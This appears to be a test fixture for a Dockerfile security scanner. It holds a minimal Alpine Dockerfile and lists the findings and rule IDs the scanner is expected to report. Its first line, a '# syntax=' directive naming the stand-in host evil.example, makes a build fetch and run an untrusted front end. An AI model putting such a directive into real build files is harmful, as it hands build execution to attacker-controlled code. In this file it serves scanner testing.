# syntax=evil.example/frontend:1
FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
USER app
# expect: base-image 1 medium+ "# syntax= (the front end that reads this Dockerfile) evil.example/frontend:1"
# expect-count: 3
# expect-ids: VR102-a10d752ca8 VR101-c33602e201 VR501-e064bac1a6
